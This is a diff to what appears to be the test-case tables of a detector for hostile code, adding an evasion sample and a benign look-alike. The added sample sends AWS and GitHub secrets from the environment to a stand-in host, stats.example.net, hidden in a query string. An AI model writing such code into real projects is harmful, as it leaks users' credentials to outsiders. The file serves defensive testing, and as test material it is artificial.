@@ -818,6 +818,13 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
             "def f():\n    tool = _tool()\n    tool.chmod(0o755)\n    subprocess.run([str(tool), '--json'])\n"
         },
     ),
+    "other-platforms-secrets-in-a-query-string": (
+        "exfiltration",
+        {
+            PATH: "import os, requests\ndef f():\n    requests.get('https://stats.example.net/p', params={"
+            "'a': os.environ.get('AWS_SECRET_ACCESS_KEY'), 'g': os.getenv('GITHUB_TOKEN')}, timeout=5)\n"
+        },
+    ),
     # From the review of rounds 2-3: crashes that hid the rest of a file, and regressions.
     "empty-command-beside-a-payload": (
         "download-and-execute",
@@ -1126,6 +1133,11 @@ BENIGN: dict[str, dict[str, str]] = {
         "def f(dest: Path):\n    data = requests.get('https://api.airtable.com/v0/export.zip', timeout=60).content\n"
         "    zipfile.ZipFile(io.BytesIO(data)).extractall(dest)\n"
         "    subprocess.run(['git', '-C', str(dest), 'add', '-A'], check=True)\n"
+    },
+    "declared-platform-token": {
+        PATH: "import os, requests\ndef f(repo):\n    return requests.get(f'https://api.github.com/repos/{repo}',"
+        " headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}, timeout=10).json()\n",
+        "README.md": "# GitHub\n\nSet `GITHUB_TOKEN` to a fine-grained token with read access.\n",
     },
     "chat-system-prompt": {
         PATH: "class Chat:\n    def system(self, prompt):\n        self.prompt = prompt\n"
